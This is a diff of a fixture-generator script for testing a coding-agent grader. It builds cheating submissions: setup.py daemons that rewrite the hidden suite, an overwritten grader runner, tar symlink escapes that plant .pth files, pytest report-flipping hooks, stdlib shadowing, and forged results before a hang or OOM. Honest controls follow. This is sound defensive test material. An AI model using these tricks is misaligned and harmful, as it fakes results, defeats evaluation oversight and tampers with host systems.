+            + SETUP_TAIL)
+
+
+@case("doc2repo-pyproject-pytest11-entry-point", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """Only the `pytest11` entry point in pyproject.toml: installed with the package, it must
+    not load because it was not there before the submission."""
+    t.write("minidoc/_pytest_plugin.py", CALC_PLUGIN)
+    t.append("pyproject.toml", '[project.entry-points.pytest11]\nminidoc_checks = "minidoc._pytest_plugin"\n')
+
+
+@case("doc2repo-setup-py-forks-daemon", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """`setup.py` forks a detached daemon (stdio closed, so the install returns) that waits for
+    the grader's runner process to appear and then rewrites the hidden suite under it."""
+    t.write("setup.py", SUITE_REWRITE + src('''
+        import os, time
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                fd = os.open(os.devnull, os.O_RDWR)
+                for n in (0, 1, 2):
+                    os.dup2(fd, n)
+                os.closerange(3, 1024)
+                deadline = time.time() + 120
+                while time.time() < deadline:
+                    seen = False
+                    for pid in os.listdir("/proc"):
+                        try:
+                            with open("/proc/%s/cmdline" % pid, "rb") as fh:
+                                seen = seen or b"runner.json" in fh.read()
+                        except OSError:
+                            pass
+                    if seen:
+                        _rewrite_suite()
+                        break
+                    time.sleep(0.005)
+            os._exit(0)
+    ''') + SETUP_TAIL)
+
+
+@case("doc2repo-setup-py-replaces-runner", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """`setup.py` overwrites the grader's own runner script (found next to runner.json under
+    /tmp) with one that writes an all-passed results file and JUnit report and exits 0."""
+    forger = FORGE + "import json, sys\n_forge(json.load(open(sys.argv[1])))\n"
+    t.write("setup.py", src('''
+        import glob, os
+        for _cfg in glob.glob("/tmp/*/runner.json"):
+            for _runner in glob.glob(os.path.join(os.path.dirname(_cfg), "*runner*.py")):
+                with open(_runner, "w") as _fh:
+                    _fh.write(%r)
+    ''' % forger) + SETUP_TAIL)
+
+
+@case("doc2repo-build-backend-path", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """No setup.py at all: pyproject.toml names an in-tree PEP 517 backend (`backend-path`),
+    which pip imports to build the editable install; it rewrites the suite and then delegates to
+    setuptools."""
+    t.write("pyproject.toml", t.read("pyproject.toml").replace(
+        'requires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"',
+        'requires = ["setuptools>=61"]\nbuild-backend = "minidoc_build"\nbackend-path = ["_build"]'))
+    t.write("_build/minidoc_build.py", SUITE_REWRITE + "_rewrite_suite()\nfrom setuptools.build_meta import *  # noqa\n")
+
+
+def tar_members_of(root):
+    """(name, kind, payload, mode) for every entry under root, sorted, directories first."""
+    out = []
+    for dirpath, dirs, files in os.walk(root):
+        dirs.sort()
+        rel_dir = os.path.relpath(dirpath, root).replace(os.sep, "/")
+        if rel_dir != ".":
+            out.append((rel_dir, "dir", None, 0o755))
+        for name in sorted(files):
+            path = os.path.join(dirpath, name)
+            rel = (name if rel_dir == "." else rel_dir + "/" + name)
+            if os.path.islink(path):
+                out.append((rel, "link", os.readlink(path), 0o777))
+            else:
+                with open(path, "rb") as fh:
+                    out.append((rel, "file", fh.read(), 0o755 if os.access(path, os.X_OK) else 0o644))
+    return out
+
+
+PTH_MEMBER = "usr/local/lib/python3.11/dist-packages/zz_minidoc.pth"
+
+
+@case("doc2repo-archive-symlink-pair-to-root", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A tar of the partial repository plus `p/q/0 -> ../..` and `p/q/1 -> 0/../..` (each link
+    stays inside the tree when read on its own, the pair resolves to `/`) and a member
+    `p/q/1/usr/local/lib/python3.11/dist-packages/zz_minidoc.pth` that lands in site-packages."""
+    t.archive = tar_members_of(t.root) + [
+        ("p", "dir", None, 0o755), ("p/q", "dir", None, 0o755),
+        ("p/q/0", "link", "../..", 0o777), ("p/q/1", "link", "0/../..", 0o777),
+        ("p/q/1/" + PTH_MEMBER, "file", pth_line(ARM).encode(), 0o644)]
+
+
+@case("doc2repo-archive-member-under-link", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A tar whose member's parent is a symlink out of the tree:
+    `site -> /usr/local/lib/python3.11/dist-packages`, then `site/zz_minidoc.pth`."""
+    t.archive = tar_members_of(t.root) + [
+        ("site", "link", "/usr/local/lib/python3.11/dist-packages", 0o777),
+        ("site/zz_minidoc.pth", "file", pth_line(ARM).encode(), 0o644)]
+
+
+@case("doc2repo-archive-dir-then-link", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A file/directory conflict in a tar: `hooks/` as a directory, then `hooks` again as a
+    symlink into site-packages, then `hooks/zz_minidoc.pth`: a reader that checks the first kind
+    it saw and an extractor that keeps the last disagree."""
+    t.archive = tar_members_of(t.root) + [
+        ("hooks", "dir", None, 0o755),
+        ("hooks", "link", "/usr/local/lib/python3.11/dist-packages", 0o777),
+        ("hooks/zz_minidoc.pth", "file", pth_line(ARM).encode(), 0o644)]
+
+
+@case("doc2repo-archive-duplicate-members", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A tar with `minidoc/__init__.py` twice: first the partial module, then the same plus the
+    report rewrite. Whoever inspects the first copy and runs the last is fooled."""
+    first = t.read("minidoc/__init__.py")
+    t.archive = tar_members_of(t.root) + [
+        ("minidoc/__init__.py", "file", (first + "\n" + REPORT_PATCH).encode(), 0o644)]
+
+
+@case("doc2repo-root-conftest", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A `conftest.py` in the repository root with a report-rewriting hook, for a grader that
+    would run the suite from the workdir."""
+    t.write("conftest.py", CALC_PLUGIN)
+
+
+@case("doc2repo-module-named-like-suite-test", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """Installs top-level modules named like the suite's (`test_minidoc`, `tests`) with
+    always-passing tests, hoping the suite's imports resolve to them."""
+    t.write("test_minidoc.py", "def test_toc_nested():\n    pass\n")
+    t.write("tests/__init__.py", "")
+    t.write("tests/test_minidoc.py", "def test_toc_nested():\n    pass\n")
+    t.write("pyproject.toml", t.read("pyproject.toml").replace(
+        'packages = ["minidoc"]', 'packages = ["minidoc", "tests"]\npy-modules = ["test_minidoc"]'))
+
+
+@case("doc2repo-partial-monkeypatch-runtest", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """The partial package's `__init__` (imported by the suite) replaces
+    `Function.runtest` with a no-op."""
+    t.append("minidoc/__init__.py", "import _pytest.python\n_pytest.python.Function.runtest = lambda self: None\n")
+
+
+@case("doc2repo-partial-plugin-via-gc", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """The partial package registers the report-rewriting hook wrapper on the live config."""
+    t.append("minidoc/__init__.py", PLUGIN_CLASS + src('''
+        import gc as _gc
+        for _obj in _gc.get_objects():
+            if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
+                _obj.pluginmanager.register(_CalcReportPlugin(), "minidoc-report")
+                break
+    '''))
+
+
+@case("doc2repo-partial-forge-results-and-exit", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """The partial package forges the result channel (suite tests listed with ast) and exits 0."""
+    t.append("minidoc/__init__.py", forge_with(FIND_BY_GLOB))
+
+
+@case("doc2repo-partial-swaps-suite-module", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """The partial package swaps the suite module that is importing it for a copy whose tests
+    are empty (`sys.modules` replacement)."""
+    t.append("minidoc/__init__.py", NEUTER + "_replace_importing_test_module()\n")
+
+
+@case("doc2repo-broken-install-shadow-pytest", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """Breaks its own install so the grader puts the workdir on PYTHONPATH, ahead of
+    site-packages, then shadows pytest with a root `pytest.py`."""
+    break_install(t)
+    t.write("pytest.py", shadow(1))
+
+
+@case("doc2repo-broken-install-shadow-json", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """Broken install plus a root `json.py`: PYTHONPATH comes before the standard library, and
+    the runner imports json first thing."""
+    break_install(t)
+    t.write("json.py", shadow(1))
+
+
+@case("doc2repo-broken-install-sitecustomize-package", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """Broken install plus a `sitecustomize/` package (not a file named sitecustomize.py):
+    imported at start-up from PYTHONPATH, before the distribution's own sitecustomize."""
+    break_install(t)
+    t.write("sitecustomize/__init__.py", STARTUP)
+
+
+@case("doc2repo-broken-install-src-sitecustomize-pyc", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """Broken install plus a sourceless `src/sitecustomize.pyc` (workdir/src is on PYTHONPATH)."""
+    break_install(t)
+    t.write("src/sitecustomize.pyc", pyc_bytes(STARTUP, "sitecustomize.py"))
+
+
+@case("doc2repo-root-dist-info-listed-as-preinstalled", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """A `minidoc_extras-0.1.dist-info/` in the repository root declaring a `pytest11` plugin
+    named `minidoc`. The grader lists "plugins installed before the submission" from inside the
+    workdir, where this dist-info is visible, and then passes `-p minidoc`: the package itself is
+    registered as a plugin before collection, with a report-rewriting hook."""
+    dist_info(t, "minidoc_extras-0.1.dist-info", "minidoc", "minidoc")
+    t.append("minidoc/__init__.py", src('''
+        import pytest as _pytest
+
+
+        @_pytest.hookimpl(hookwrapper=True)
+        def pytest_runtest_makereport(item, call):
+            outcome = yield
+            report = outcome.get_result()
+            if report.failed:
+                report.outcome = "passed"
+                report.longrepr = None
+    '''))
+
+
+@case("doc2repo-forge-partial-results-then-hang", DR, MINIDOC, CHEAT_PARTIAL, base="partial", timeout=20)
+def _(t):
+    """Writes an unfinished ("partial") all-passed results file for the suite and then blocks
+    until the test timeout: a grader that credits the tests finished before a timeout from the
+    recorder's file alone counts them."""
+    t.append("minidoc/__init__.py", forge_with(FIND_BY_GLOB, hang=True))
+
+
+@case("doc2repo-forge-partial-results-then-oom", DR, MINIDOC, CHEAT_PARTIAL, base="partial")
+def _(t):
+    """The same partial forgery, then allocates memory until the container's OOM killer
+    strikes (the out-of-memory path credits partial results too)."""
+    forger = forge_with(FIND_BY_GLOB, hang=True).replace(
+        "            while True:\n                time.sleep(60)",
+        "            hog = []\n            while True:\n                hog.append(bytearray(64 * 1024 * 1024))")
+    t.append("minidoc/__init__.py", forger)
+
+
+@case("doc2repo-nothing-setup-py-rewrites-suite", DR, MINIDOC, CHEAT_NOTHING, base="empty")
+def _(t):
+    """No implementation at all: an installable empty project whose `setup.py` rewrites the
+    hidden suite (imports dropped, tests emptied)."""
+    t.write("pyproject.toml", src('''
+        [build-system]
+        requires = ["setuptools>=61"]
+        build-backend = "setuptools.build_meta"
+
+        [project]
+        name = "minidoc"
+        version = "0.1.0"
+
+        [tool.setuptools]
+        py-modules = []
+    '''))
+    t.write("setup.py", SUITE_REWRITE + "_rewrite_suite(drop_imports=True)\n" + SETUP_TAIL)
+
+
+# ---------------------------------------------------------------------------- 9. config and misc
+
+CM = "config-and-misc"
+
+
+@case("pyproject-dotted-keys-pythonpath", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """pyproject.toml gains root-level dotted keys `tool.pytest.ini_options.pythonpath = [...]`
+    (no `[tool.pytest.ini_options]` header for a section-based revert to find). pytest puts
+    `calc/_vendor` first on `sys.path` before configure, and its debugging plugin then imports
+    `pdb`, which `calc/_vendor/pdb.py` shadows."""
+    t.write("pyproject.toml", 'tool.pytest.ini_options.pythonpath = ["calc/_vendor"]\n' + t.read("pyproject.toml"))
+    t.write("calc/_vendor/pdb.py", shadow(1))
+
+
+@case("pyproject-spaced-table-header", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """The pytest table as `[ tool . pytest . ini_options ]` (valid TOML, whitespace around the
+    dots) with `pythonpath`; `calc/_vendor/cmd.py` shadows `cmd`, which `pdb` imports."""
+    t.append("pyproject.toml", '[ tool . pytest . ini_options ]\npythonpath = ["calc/_vendor"]\n')
+    t.write("calc/_vendor/cmd.py", shadow(1))
+
+
+@case("pyproject-dotted-keys-under-tool-table", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """`pytest.ini_options.pythonpath` as dotted keys inside a `[tool]` table;
+    `calc/_vendor/code.py` shadows `code`, which `pdb` imports."""
+    t.append("pyproject.toml", '[tool]\npytest.ini_options.pythonpath = ["calc/_vendor"]\n')
+    t.write("calc/_vendor/code.py", shadow(1))
+
+
+@case("setup-cfg-new-tool-pytest", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """A new `setup.cfg` whose `[tool:pytest]` section sets `pythonpath` to a directory with a
+    `pdb.py` shadow."""
+    t.write("setup.cfg", "[tool:pytest]\npythonpath = calc/_vendor\n")
+    t.write("calc/_vendor/pdb.py", shadow(1))
+
+
+@case("tox-ini-pytest-section", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `tox.ini` with a `[pytest]` section (pytest reads it): `pythonpath` plus a `pdb.py`
+    shadow."""
+    t.write("tox.ini", "[tox]\nenvlist = py311\n\n[pytest]\npythonpath = calc/_vendor\n")
+    t.write("calc/_vendor/pdb.py", shadow(1))
+
+
+@case("dotenv-pytest-addopts", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `.env` file setting `PYTEST_ADDOPTS=-p calc._testing` and `PYTEST_PLUGINS`, for
+    graders or wrappers that load dotenv files into the test environment."""
+    t.write("calc/_testing.py", CALC_PLUGIN)
+    t.write(".env", "PYTEST_ADDOPTS=-p calc._testing\nPYTEST_PLUGINS=calc._testing\n")
+
+
+@case("pytest-plugins-in-package-module", CM, CALC, CHEAT_ISSUE)
+def _(t):
+    """`pytest_plugins = ["calc._testing"]` in calc/__init__.py: pytest honours that variable only
+    in conftest files and test modules."""
+    t.write("calc/_testing.py", CALC_PLUGIN)
+    calc_init(t, 'pytest_plugins = ["calc._testing"]\n')
+
+
+@case("f2p-script-shadow-package", CM, TEXTKIT, CHEAT_ISSUE)
+def _(t):
+    """DepMigrate: a package `test_fail_to_pass/` in the root (its `__init__.py` has a passing
+    `test_migrated`) beside the f2p script the grader writes as test_fail_to_pass.py; packages
+    win the import, and textkit/__init__.py sets `PY_IGNORE_IMPORTMISMATCH` so pytest accepts
+    the swap. The other F2P tests still fail, so this shows the shadowing, not a resolve."""
+    t.write("test_fail_to_pass/__init__.py", "def test_migrated():\n    pass\n")
+    t.append("textkit/__init__.py", 'import os as _os\n_os.environ["PY_IGNORE_IMPORTMISMATCH"] = "1"\n')
+
+
+# ---------------------------------------------------------------------------- honest controls
+
+HC = "control"
+
+
+@case("control-gold", HC, CALC, RESOLVED)
+def _(t):
+    """The real fix, nothing else."""
+    t.apply_gold()
+
+
+@case("control-gold-crlf", HC, CALC, RESOLVED)
+def _(t):
+    """The gold patch with every line ending turned into CRLF in transit (the grader puts it
+    back)."""
+    t.apply_gold()
+    t.crlf = True
+
+
+@case("control-gold-helper-module", HC, CALC, RESOLVED)
+def _(t):
+    """The fix moved into a new helper module `calc/_numbers.py` that ops.py imports."""
+    ops = t.future("calc/ops.py")
+    head, _, rest = ops.partition("\n\ndef add(")
+    t.write("calc/_numbers.py", head.replace('"""The four operations. Operands may be numbers or numeric strings."""',
+                                             '"""Parsing numeric operands."""') + "\n")
+    t.write("calc/ops.py", '"""The four operations. Operands may be numbers or numeric strings."""\n\n'
+            "from calc._numbers import _coerce\n\n\ndef add(" + rest)
+
+
+@case("control-gold-renamed-readme", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a tracked-file rename (README.md -> README.rst)."""
+    t.apply_gold()
+    t.rename("README.md", "README.rst")
+
+
+@case("control-gold-new-subpackage", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a new subpackage with its own `__init__.py`."""
+    t.apply_gold()
+    t.write("calc/formats/__init__.py", '"""Number formats."""\n\nMINUS = "\\u2212"\n')
+    t.write("calc/formats/currency.py", 'SYMBOLS = "$\\u20ac\\u00a3\\u00a5"\n')
+
+
+@case("control-gold-binary-data", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a binary data file in the package."""
+    t.apply_gold()
+    t.write("calc/data/rates.bin", bytes(range(256)) * 8)
+
+
+@case("control-gold-ctypes-gc-at-import", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a module imported by calc/__init__.py that uses `ctypes`, `gc`, `sys.settrace`
+    state and `atexit` legitimately at import (feature probing, a collection, a cleanup hook)."""
+    t.apply_gold()
+    t.write("calc/_runtime.py", src('''
+        """Runtime probing: word size and a tidy heap before first use."""
+        import atexit
+        import ctypes
+        import gc
+        import sys
+
+        WORD_BITS = ctypes.sizeof(ctypes.c_void_p) * 8
+        LIBC = ctypes.CDLL(None)
+        gc.collect()
+        TRACING = sys.gettrace() is not None
+        _cache = {}
+        atexit.register(_cache.clear)
+    '''))
+    calc_init(t, "from calc import _runtime  # noqa: E402,F401\n")
+
+
+@case("control-gold-confutils-module", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus `confutils.py` and `calc/conftest_helpers.py`: conftest-looking names that are
+    not conftest files."""
+    t.apply_gold()
+    t.write("confutils.py", '"""Configuration helpers."""\n\nDEFAULTS = {"precision": 2}\n')
+    t.write("calc/conftest_helpers.py", "def config_value(name):\n    return {'precision': 2}.get(name)\n")
+
+
+@case("control-gold-unicode-paths", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus files with non-ASCII names (quoted with octal escapes in the diff)."""
+    t.apply_gold()
+    t.write("docs/notes-café.md", "# Notes\n\nCafé prices: €3.50.\n")
+    t.write("calc/größen.py", '"""Größen."""\nEINS = 1\n')
+
+
+@case("control-gold-near-stdlib-names", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus top-level modules whose names are close to, but are not, standard-library or
+    pytest names (`inspector.py`, `jsonlines_util.py`, `pytestish.py`, `pluggable.py`)."""
+    t.apply_gold()
+    for name in ("inspector", "jsonlines_util", "pytestish", "pluggable"):
+        t.write(name + ".py", '"""%s: project helper."""\n\nNAME = "%s"\n' % (name, name))
+
+
+@case("control-gold-tests-helpers-module", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a top-level `tests_helpers.py` and `testdata.py` (not test files)."""
+    t.apply_gold()
+    t.write("tests_helpers.py", "def approx_equal(a, b):\n    return abs(a - b) < 1e-9\n")
+    t.write("testdata.py", "VALUES = [1, 2, 3]\n")
+
+
+@case("control-gold-symlink-and-script", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a tracked symlink inside the tree and an executable script."""
+    t.apply_gold()
+    t.symlink("docs/README.md", "../README.md")
+    t.write("scripts/check.sh", "#!/bin/sh\nexec python3 -m pytest -q\n", mode=0o755)
+
+
+@case("control-gold-gitattributes", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus an ordinary `.gitattributes` (binary and eol settings)."""
+    t.apply_gold()
+    t.write(".gitattributes", "*.bin binary\n*.py text eol=lf\n")
+
+
+@case("control-gold-setup-py-shim", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus a legacy `setup.py` shim and a MANIFEST.in."""
+    t.apply_gold()
+    t.write("setup.py", "from setuptools import setup\n\nsetup()\n")
+    t.write("MANIFEST.in", "include README.md\n")
+
+
+@case("control-gold-pyproject-edits", HC, CALC, RESOLVED)
+def _(t):
+    """Gold plus pyproject.toml edits outside any pytest table (metadata, a `[tool.black]`
+    table, a comment mentioning pytest)."""
+    t.apply_gold()
+    t.write("pyproject.toml", t.read("pyproject.toml").replace(
+        'description = "Arithmetic on numbers and numeric strings"',
+        'description = "Arithmetic on numbers and numeric strings (typeset minus signs too)"')
+        + '\n# tests run with pytest\n[tool.black]\nline-length = 100\n')
+
+
+@case("control-textkit-gold", HC, TEXTKIT, RESOLVED)
+def _(t):
+    """DepMigrate: the real migration, nothing else."""
+    t.apply_gold()
+
+
+@case("control-textkit-gold-compat-module", HC, TEXTKIT, RESOLVED)
+def _(t):
+    """DepMigrate: the migration plus a `textkit/_compat.py` that inspects the installed
+    textdep at import (`importlib.metadata`, `sys.modules`)."""
+    t.apply_gold()
+    t.write("textkit/_compat.py", src('''
+        """What textdep is installed."""
+        import sys
+        from importlib import metadata
+
+        TEXTDEP_VERSION = metadata.version("textdep")
+        LOADED = "textdep" in sys.modules
+    '''))
+    t.append("textkit/__init__.py", "from textkit import _compat  # noqa: E402,F401\n")
+
+
+GOLD_SCORE, PARTIAL_SCORE = {"score": 1.0}, {"score": 0.6}
+
+
+@case("control-minidoc-gold", HC, MINIDOC, GOLD_SCORE, base="gold")
+def _(t):
+    """Doc2Repo: the complete implementation."""
+
+
+@case("control-minidoc-partial", HC, MINIDOC, PARTIAL_SCORE, base="partial")
+def _(t):
+    """Doc2Repo: the incomplete implementation (6 of 10)."""
+
+
+@case("control-minidoc-gold-own-tests", HC, MINIDOC, GOLD_SCORE, base="gold")
+def _(t):
+    """Doc2Repo: gold plus the agent's own tests (`tests/test_minidoc.py`, named like the hidden
+    suite's module, and a `tests/conftest.py` with a fixture)."""
+    t.write("tests/conftest.py", "import pytest\n\n\n@pytest.fixture\ndef doc():\n    return '# A\\n## B\\n'\n")
+    t.write("tests/test_minidoc.py", "from minidoc import headings\n\n\ndef test_headings(doc):\n"
+            "    assert headings(doc) == [(1, 'A'), (2, 'B')]\n")
+
+
+@case("control-minidoc-gold-setup-py", HC, MINIDOC, GOLD_SCORE, base="gold")
+def _(t):
+    """Doc2Repo: gold plus an ordinary `setup.py` shim."""
+    t.write("setup.py", "from setuptools import setup\n\nsetup()\n")
+
+
+@case("control-minidoc-gold-src-layout", HC, MINIDOC, GOLD_SCORE, base="gold")
+def _(t):
+    """Doc2Repo: gold in a `src/` layout."""
+    t.rename("minidoc/__init__.py", "src/minidoc/__init__.py")
+    t.remove("minidoc")
+    t.write("pyproject.toml", t.read("pyproject.toml").replace(
+        'packages = ["minidoc"]', 'packages = ["minidoc"]\npackage-dir = {"" = "src"}'))
+
+
+@case("control-minidoc-gold-archive", HC, MINIDOC, GOLD_SCORE, base="gold")
+def _(t):
+    """Doc2Repo: gold as a tar archive (with a directory member for every directory)."""
+    t.archive = tar_members_of(t.root)
+
+
+@case("control-minidoc-gold-ctypes-gc", HC, MINIDOC, GOLD_SCORE, base="gold")
+def _(t):
+    """Doc2Repo: gold plus a module that uses `ctypes` and `gc` at import, and a `.pth`-looking
+    but harmless data file name (`notes.pth.txt`)."""
+    t.write("minidoc/_native.py", "import ctypes\nimport gc\n\nWORD = ctypes.sizeof(ctypes.c_void_p)\ngc.collect()\n")
+    t.append("minidoc/__init__.py", "from minidoc import _native  # noqa: E402,F401\n")
+    t.write("notes.pth.txt", "not a path file\n")
+
+
+# ============================================================================ generation
+
+GIT_DATE = "2024-01-01T00:00:00+00:00"
+
+
+def git_env(home):
+    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": home, "GIT_CONFIG_NOSYSTEM": "1",
+            "GIT_CONFIG_GLOBAL": os.devnull, "TZ": "UTC", "LC_ALL": "C",
+            "GIT_AUTHOR_NAME": "fixture", "GIT_AUTHOR_EMAIL": "fixture@acme.invalid", "GIT_AUTHOR_DATE": GIT_DATE,
+            "GIT_COMMITTER_NAME": "fixture", "GIT_COMMITTER_EMAIL": "fixture@acme.invalid",
+            "GIT_COMMITTER_DATE": GIT_DATE}
+
+
+def git(cwd, env, *args):
+    cmd = ["git", "-c", "core.autocrlf=false", "-c", "core.abbrev=7", "-c", "diff.renames=true",
+           "-c", "core.symlinks=true", "-c", "init.defaultBranch=main"] + list(args)
+    return subprocess.run(cmd, cwd=cwd, env=env, check=True, stdout=subprocess.PIPE).stdout
+
+
+def copy_tree(src_dir, dest):
+    shutil.copytree(src_dir, dest, symlinks=True, dirs_exist_ok=True)
+    for dirpath, dirs, files in os.walk(dest):
+        for name in files:
+            path = os.path.join(dirpath, name)
+            if not os.path.islink(path):
+                os.chmod(path, 0o644)
+
+
+def make_patch(c, tmp):
+    work = os.path.join(tmp, "w")
+    os.makedirs(work)
+    copy_tree(os.path.join(STAGES[c["instance"]], "02-base"), work)
+    env = git_env(tmp)
+    git(work, env, "init", "-q", "--template=")
+    git(work, env, "add", "-A")
+    git(work, env, "commit", "-q", "-m", "base")
+    t = Tree(work, c["instance"])
+    t.crlf = False
+    c["edit"](t)
+    if t.binary:
+        os.makedirs(os.path.join(work, ".git", "info"), exist_ok=True)
+        with open(os.path.join(work, ".git", "info", "attributes"), "w") as fh:
+            fh.write("".join("%s binary\n" % p for p in t.binary))
+    git(work, env, "add", "-A", "-f")
+    patch = git(work, env, "diff", "--cached", "--binary", "--no-color", "--no-ext-diff", "HEAD")
+    if t.raw_patch is not None:
+        patch = t.raw_patch.encode()
+    patch += t.extra_patch.encode()
+    if t.crlf:
+        patch = patch.replace(b"\n", b"\r\n")
+    return patch
+
+
+def tar_bytes(members):
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
+        for name, kind, payload, mode in members:
+            info = tarfile.TarInfo(name)
+            info.mtime, info.uid, info.gid, info.uname, info.gname, info.mode = 0, 0, 0, "", "", mode
+            if kind == "dir":
+                info.type = tarfile.DIRTYPE
+                tar.addfile(info)
+            elif kind == "link":
+                info.type, info.linkname = tarfile.SYMTYPE, payload
+                tar.addfile(info)
+            else:
+                info.size = len(payload)
+                tar.addfile(info, io.BytesIO(payload))
+    return buf.getvalue()
+
+
+def generate(dest):
+    """Writes every fixture and cases.json under dest (a fresh directory)."""
+    entries = []
+    seen = set()
+    for c in CASES:
+        if c["name"] in seen:
+            raise SystemExit("duplicate case name " + c["name"])
+        seen.add(c["name"])
+        with tempfile.TemporaryDirectory() as tmp:
+            if c["instance"] == MINIDOC:
+                work = os.path.join(tmp, "w")
+                os.makedirs(work)
+                if c["base"] in ("partial", "gold"):
+                    copy_tree(os.path.join(SUBMISSIONS, "minidoc_" + c["base"]), work)
+                t = Tree(work, MINIDOC)
+                c["edit"](t)
+                if t.archive is not None:
+                    rel = "archives/%s.tar" % c["name"]
+                    write_file(os.path.join(dest, rel), tar_bytes(t.archive))
+                else:
+                    rel = "trees/%s" % c["name"]
+                    copy_tree(work, os.path.join(dest, rel))
+                kind = "tree"
+            else:
+                rel = "patches/%s.patch" % c["name"]
+                write_file(os.path.join(dest, rel), make_patch(c, tmp))
+                kind = "patch"
+        entry = {"name": c["name"], "class": c["class"], "instance": c["instance"], "submission": rel,
+                 "kind": kind, "expect": c["expect"], "note": c["note"]}
+        if c["timeout"]:
+            entry["timeout"] = c["timeout"]
+        entries.append(entry)
+    write_file(os.path.join(dest, "cases.json"),
+               (json.dumps(entries, indent=2, ensure_ascii=False) + "\n").encode("utf-8"))
+
+
+def write_file(path, data):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as fh:
+        fh.write(data)
+
+
+GENERATED = ("cases.json", "patches", "trees", "archives")
+
+
+def snapshot(root):
+    """path -> (kind, content or link target, executable) for the generated part of root."""
+    out = {}
+    for top in GENERATED:
+        base = os.path.join(root, top)
+        if os.path.isfile(base):
+            with open(base, "rb") as fh:
+                out[top] = ("file", fh.read(), False)
+            continue
+        for dirpath, dirs, files in os.walk(base):
+            for name in files + [d for d in dirs if os.path.islink(os.path.join(dirpath, d))]:
+                path = os.path.join(dirpath, name)
+                rel = os.path.relpath(path, root)
+                if os.path.islink(path):
+                    out[rel] = ("link", os.readlink(path), False)
+                else:
+                    with open(path, "rb") as fh:
+                        out[rel] = ("file", fh.read(), os.access(path, os.X_OK))
+    return out
+
+
+def cmd_write():
+    for top in GENERATED:
+        path = os.path.join(OUT, top)
+        if os.path.isdir(path):
+            shutil.rmtree(path)
+        elif os.path.exists(path):
+            os.remove(path)
+    generate(OUT)
+    print("wrote %d cases to %s" % (len(CASES), os.path.relpath(OUT, ROOT)))
+
+
+def cmd_check():
+    with tempfile.TemporaryDirectory() as tmp:
+        generate(tmp)
+        fresh, committed = snapshot(tmp), snapshot(OUT)
+    stale = sorted(k for k in set(fresh) | set(committed) if fresh.get(k) != committed.get(k))
+    for k in stale:
+        print("stale: %s" % k)
+    if stale:
+        print("fixtures/adversarial is stale: run scripts/make-adversarial-fixtures.py")
+        return 1
+    print("fixtures/adversarial is up to date (%d cases)" % len(CASES))
+    return 0
+
+
+# ============================================================================ grading
+
+
+def meets(expect, v):
+    """Whether a verdict meets the expectation; a refused submission meets only a cheat's."""
+    if v["verdict"] == "refused":
+        return "score" not in expect and expect.get("verdict") != "resolved"
+    if "verdict" in expect and v["verdict"] != expect["verdict"]:
+        return False
+    if "score_max" in expect and v["score"] > expect["score_max"] + 1e-9:
+        return False
+    if "score" in expect and abs(v["score"] - expect["score"]) > 1e-6:
+        return False
+    if "reason_any" in expect and v["reason"] not in expect["reason_any"]:
+        return False
+    return True
+
+
+def grade_case(binary, entry):
+    sub = os.path.join(OUT, entry["submission"])
+    cmd = [binary, "grade-one", "--json", "--dataset", DATASET, "--test-suites",
+           os.path.join(FIXTURES, "test_suites"), "--instance", entry["instance"],
+           "--patch" if entry["kind"] == "patch" else "--repo", sub]
+    if entry.get("timeout"):
+        cmd += ["--timeout", str(entry["timeout"])]
+    proc = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        v = json.loads(proc.stdout)
+    except ValueError:
+        err = proc.stderr.decode("utf-8", "replace").strip().splitlines()
+        return {"verdict": "refused", "reason": (err[-1] if err else "exit %d" % proc.returncode)[:300],
+                "score": 0.0}
+    out = {"verdict": v["verdict"], "reason": v["reason"], "score": v["score"]}
+    f2p = v.get("fail_to_pass") or {}
+    if f2p:
